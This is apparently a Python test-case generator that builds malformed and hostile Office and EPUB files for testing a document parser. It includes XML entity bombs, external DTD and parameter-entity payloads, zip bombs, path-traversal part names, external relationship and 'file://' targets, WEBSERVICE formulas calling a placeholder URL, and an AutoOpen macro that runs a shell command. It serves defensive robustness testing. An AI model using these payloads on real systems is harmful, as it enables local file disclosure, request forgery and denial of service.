"""Harmful office files and e-books: bombs, path traversal, nesting, spans, external relations."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
from collections.abc import Iterator
from functools import partial

from campaigns.hostile.cases import OUTSIDE, PATHS, Case, cases, entity_bomb
from campaigns.hostile.documents import CONTAINER, MAIN, PACKAGE, parts_of, sound, with_part, zipped

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
_P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def office_cases() -> Iterator[Case]:
    """Yield all cases."""
    for ending in MAIN:
        yield from _archives(ending)
    for group in (_word, _slides, _workbooks, _sheets, _books):
        yield from group()


def _archives(ending: str) -> Iterator[Case]:
    whole, main = sound()[ending], MAIN[ending]
    main_part = next(part for name, part in parts_of(whole).items() if name.endswith(main)).decode()
    for defect, content in {
        "no contents": "", "half a tag": "<", "zeros inside": "\0" * 99, "another root": "<a/>",
        "nested 50,000 deep": "<a>" * 50_000, "an entity bomb": entity_bomb(),
        "entities from elsewhere": f"{OUTSIDE}<html>&x;&y;</html>",
        "parameter entities": '<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}/dtd"> %p;]><a/>',
        "a DTD from elsewhere": '<!DOCTYPE a SYSTEM "{url}/dtd"><a/>',
        "a million attributes": "<a " + " ".join(f"b{n}=''" for n in range(300_000)) + "/>",
        "wrong encoding declared": "<?xml version='1.0' encoding='utf-16'?><a/>",
        "a part of 40 MB": main_part.replace("a", "a" * 2000)[:40_000_000],
    }.items():  # fmt: skip
        yield Case(defect, ending, partial(with_part, whole, main, content.encode()))
    parts: dict[str, str | bytes] = dict(parts_of(whole))
    climbing = {"../secret.txt": b"x", "/etc/x": b"x", "C:\\x": b"x", "a/../../x": b"x", "a\0b": b"x"}
    yield from cases(ending, {
        "a bomb of zeros": partial(_with_zeros, parts),
        "20,001 parts": partial(zipped, {**parts, **{f"p/{n}": b"" for n in range(20_001)}}, zipfile.ZIP_STORED),
        "names that climb": zipped({**parts, **climbing}), "the same name twice": _doubled(parts),
        "stated sizes that lie": _lying(whole), "every part empty": zipped(dict.fromkeys(parts, b"")),
        "archives in archives": lambda: zipped({**parts, "inner.zip": _nested(whole)}),
    })  # fmt: skip


def _nested(whole: bytes) -> bytes:
    return functools.reduce(lambda inner, _: zipped({"a.zip": inner}), range(50), whole)


def _with_zeros(parts: dict[str, str | bytes]) -> bytes:
    return zipped({**parts, **{f"media/{n}.bin": bytes(180 * 2**20) for n in range(3)}})


def _doubled(parts: dict[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name)
            archive.writestr(info, content)
            archive.filelist.append(info)
    return stream.getvalue()


def _lying(whole: bytes) -> bytes:
    """Return an archive whose central directory declares parts of a hundred bytes."""
    made, place = bytearray(whole), 0
    while (place := made.find(b"PK\x01\x02", place)) >= 0:
        made[place + 24 : place + 28] = struct.pack("<I", 100)
        place += 4
    return bytes(made)


def _related(ending: str, owner: str, *relations: tuple[str, str]) -> Case:
    """Return an Office archive with additional relations of a part, by kind and target."""
    whole = sound()[ending]
    parts = parts_of(whole)
    name = next(name for name in parts if name.endswith(f"_rels/{owner}.rels"))
    added = ""
    for number, (kind, target) in enumerate(relations):
        mode = "External" if ":/" in target or "{" in target else "Internal"
        added += f'<Relationship Id="x{number}" Type="{_RELATED}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    content = parts[name].replace(b"</Relationships>", f"{added}</Relationships>".encode())
    return Case("parts from elsewhere", ending, with_part(whole, name, content))


def _with_macros(ending: str, name: str) -> Case:
    program = b'Sub AutoOpen()\nShell "touch {secret}"\nEnd Sub'
    return Case("macros", ending, zipped({**parts_of(sound()[ending]), name: program}))


def _filled(ending: str, frame: str, contents: dict[str, str]) -> Iterator[Case]:
    """Yield documents whose main part is ``frame`` around each of these contents."""
    for defect, inner in contents.items():
        part = frame.replace("@", inner, 1).encode()
        yield Case(defect, ending, partial(with_part, sound()[ending], MAIN[ending], part))


def _word() -> Iterator[Case]:
    run = "<w:p><w:r><w:t>a</w:t></w:r></w:p>"
    frame = f"<w:document {_W}><w:body>@</w:body></w:document>"
    yield from _filled(".docx", frame, {
        "tables in tables": "<w:tbl><w:tr><w:tc>" * 500 + run + "</w:tc></w:tr></w:tbl>" * 500,
        "a span of a million": '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr></w:tc></w:tr></w:tbl>',
        "600,000 cells": "<w:tbl>" + "<w:tr><w:tc/><w:tc/></w:tr>" * 300_000 + "</w:tbl>",
        "200,000 links": "<w:p><w:hyperlink w:anchor='a'><w:r><w:t>a</w:t></w:r></w:hyperlink></w:p>" * 200_000,
        "a paragraph of 8 MB": f"<w:p><w:r><w:t>{'a ' * 4_000_000}</w:t></w:r></w:p>",
        "numbers out of range": "<w:p><w:pPr><w:numPr><w:ilvl w:val='-9'/><w:numId w:val='999999999999'/></w:numPr></w:pPr></w:p>" * 10,
    })  # fmt: skip
    pairs = (("a", "b"), ("b", "a"))
    styles = "".join(f'<w:style w:styleId="{one}"><w:basedOn w:val="{two}"/></w:style>' for one, two in pairs)
    cyclic = with_part(sound()[".docx"], "styles.xml", f"<w:styles {_W}>{styles}</w:styles>".encode())
    used = frame.replace("@", "<w:p><w:pPr><w:pStyle w:val='a'/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>")
    yield Case("styles in a circle", ".docx", with_part(cyclic, "document.xml", used.encode()))
    yield _related(".docx", "document.xml", ("image", "{url}/i.png"), ("attachedTemplate", "{url}/t.dotm"),
                   ("image", "file://{secret}"), ("image", "../../../secret.txt"), ("styles", "document.xml"))  # fmt: skip
    yield _with_macros(".docm", "word/vbaProject.bin")


def _slides() -> Iterator[Case]:
    shape = "<p:sp><p:txBody><a:p><a:r><a:t>a</a:t></a:r></a:p></p:txBody></p:sp>"
    grid = "<a:tbl><a:tblGrid/>" + "<a:tr><a:tc gridSpan='1000000' rowSpan='1000000'/></a:tr>" * 100 + "</a:tbl>"
    yield from _filled(".pptx", f"<p:sld {_P} {_A}><p:cSld><p:spTree>@</p:spTree></p:cSld></p:sld>", {
        "groups in groups": "<p:grpSp>" * 240 + shape + "</p:grpSp>" * 240, "20,000 shapes": shape * 20_000,
        "spans of a million": f"<p:graphicFrame><a:graphic><a:graphicData>{grid}</a:graphicData></a:graphic></p:graphicFrame>",
    })  # fmt: skip
    yield _related(
        ".pptx", "slide1.xml", ("image", "{url}/i.png"), ("video", "file://{secret}"), ("slide", "slide1.xml")
    )


def _workbooks() -> Iterator[Case]:
    far = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 3000))
    merged = "".join(f'<mergeCell ref="A{n}:XFD1048576"/>' for n in range(1, 2000))
    cells = "".join(f'<c r="{column}@"><v>1</v></c>' for column in "ABCDEFGHIJ")
    rows = "".join(f'<row r="{n}">{cells}</row>'.replace("@", str(n)) for n in range(1, 100_001))
    yield from _filled(".xlsx", f"<worksheet {_S}>@</worksheet>", {
        "merged far and wide": f"<sheetData>{far}</sheetData><mergeCells>{merged}</mergeCells>",
        "a million cells": f"<sheetData>{rows}</sheetData>",
        "places out of range": '<sheetData><row r="99999999999"><c r="ZZZZZZ9999999999"><v>1e999</v></c></row></sheetData>',
        "strings that are not there": '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="s"><v>-5</v></c></row></sheetData>',
        "formulas that ask": '<sheetData><row><c t="str"><f>HYPERLINK("{url}/x")</f><v>a</v></c><c><f>WEBSERVICE("{url}/y")</f></c></row></sheetData>',
    })  # fmt: skip
    yield _related(".xlsx", "workbook.xml", ("externalLink", "{url}/b.xlsx"), ("worksheet", "file://{secret}"),
                   ("worksheet", "../../secret.txt"))  # fmt: skip
    yield _with_macros(".xlsm", "xl/vbaProject.bin")


def _sheets() -> Iterator[Case]:
    names = " ".join(f"xmlns:{short}='urn:oasis:names:tc:opendocument:xmlns:{long}:1.0'" for short, long in
                     (("o", "office"), ("t", "table"), ("x", "text")))  # fmt: skip
    cell = "<t:table-cell t:number-columns-repeated='1000000'><x:p>a</x:p></t:table-cell>"
    nested = "<t:table-cell>" + "<x:p><x:span>" * 120 + "a" + "</x:span></x:p>" * 120 + "</t:table-cell>"
    yield from _filled(".ods", f"<o:d {names}><t:table t:name='S'>@</t:table></o:d>", {
        "a cell that repeats 10¹² times": f"<t:table-row t:number-rows-repeated='1000000'>{cell}</t:table-row>",
        "a negative count": f"<t:table-row t:number-rows-repeated='-1'>{cell}</t:table-row>",
        "300,000 rows": "<t:table-row><t:table-cell><x:p>a</x:p></t:table-cell></t:table-row>" * 300_000,
        "nested text": f"<t:table-row>{nested}</t:table-row>",
    })  # fmt: skip


def _books() -> Iterator[Case]:
    page = "<html xmlns='http://www.w3.org/1999/xhtml'><body>@</body></html>"
    shown = "".join(f"<img src='{path}' alt='a'/>" for path in (*PATHS[:8], "{url}/p.png"))
    points = "<navPoint><navLabel><text>a</text></navLabel><content src='c.xhtml'/>" * 5_000
    toc = f"<ncx xmlns='http://www.daisy.org/z3986/2005/ncx/'><navMap>{points}{'</navPoint>' * 5000}</navMap></ncx>"
    item = '<item id="t" href="t.ncx" media-type="application/x-dtbncx+xml"/>'

    def book(package: str = PACKAGE, inner: str = "<p>a</p>", **more: str) -> bytes:
        base = {"mimetype": "application/epub+zip", "META-INF/container.xml": CONTAINER, "b.opf": package}
        return zipped({**base, "c.xhtml": page.replace("@", inner), **more})

    for path in (*PATHS[:8], "{url}/c.xhtml", "b.opf"):
        yield Case(f"a chapter at {path}", ".epub", book(PACKAGE.replace("c.xhtml", path)))
    yield from cases(".epub", {
        "one chapter 100,000 times": book(PACKAGE.replace("</spine>", '<itemref idref="c"/>' * 100_000 + "</spine>")),
        "pictures from elsewhere": book(inner=shown),
        "contents nested 5,000 deep": book(PACKAGE.replace("</manifest>", f"{item}</manifest>"), **{"t.ncx": toc}),
    })  # fmt: skip
